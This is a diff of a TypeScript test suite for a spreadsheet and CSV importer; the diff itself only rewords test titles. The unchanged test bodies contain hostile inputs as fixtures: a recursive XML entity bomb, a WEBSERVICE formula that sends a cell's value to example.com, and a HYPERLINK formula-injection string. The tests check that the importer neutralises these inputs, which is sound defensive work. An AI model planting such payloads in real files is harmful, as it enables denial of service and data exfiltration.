@@ -60,7 +60,7 @@ const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><
 
 const kept = async () => (await server.ctx.db.select({ n: count() }).from(imports))[0]?.n
 
-describe('a hostile file is refused, says why and where, and leaves nothing', () => {
+describe('a hostile file is refused with a reason and a place, and leaves nothing', () => {
   const tooLong = { code: 'import.cell-too-long', params: { row: 2, column: 1, most: 2000 } }
   const unreadable = { code: 'import.unreadable' }
   const files: Record<string, [() => Promise<Reply>, object]> = {
@@ -113,7 +113,7 @@ describe('a hostile file is refused, says why and where, and leaves nothing', ()
   })
 })
 
-test('a workbook that names itself over and over is read as it stands, nothing of it unfolded', async () => {
+test('a workbook with recursive entities is read without expanding them', async () => {
   const entities = Array.from({ length: 12 }, (_, n) =>
     n === 0 ? '<!ENTITY e0 "hahahahaha">' : `<!ENTITY e${n} "${`&e${n - 1};`.repeat(10)}">`,
   )
@@ -122,8 +122,8 @@ test('a workbook that names itself over and over is read as it stands, nothing o
   expect(await xlsx(bookOf(sheet))).toMatchObject({ status: 201, body: { sample: [['&e11;']] } })
 })
 
-describe('a cell that is not what its field is', () => {
-  test('is told at its place, and the line is not imported', async () => {
+describe('a cell of the wrong type', () => {
+  test('is reported at its place, and the line is not imported', async () => {
     const good = ['W-1', '好的', 'T9', '公斤', 10, 2, '']
     const rows = [
       good,
@@ -161,7 +161,7 @@ describe('a cell that is not what its field is', () => {
 })
 
 describe('a formula', () => {
-  test('in a workbook counts for what it came to; one that came to nothing says nothing', async () => {
+  test('in a workbook counts as its result, and as empty without one', async () => {
     const cells: Cells = new Map([
       ['1,1', { value: null, formula: 'WEBSERVICE("http://example.com/?"&A2)' }],
       ['1,4', { value: null, formula: '12*25', formulaResult: 300 }],
@@ -173,7 +173,7 @@ describe('a formula', () => {
     expect(planned.body).toMatchObject({ faults: [{ row: 2, field: 'name', code: 'required' }] })
   })
 
-  test('in a CSV file is a text like any other, and leaves again as one', async () => {
+  test('in a CSV file is plain text, and is exported as such', async () => {
     const text = `=HYPERLINK(""http://example.com/?""&A1)`
     const sheet = await csv(`${head.join(',')}\nQ-2,"${text}",T9,公斤,1,1,@SUM(1)\n`)
     const { id, mapping } = sheet.body as ImportRow
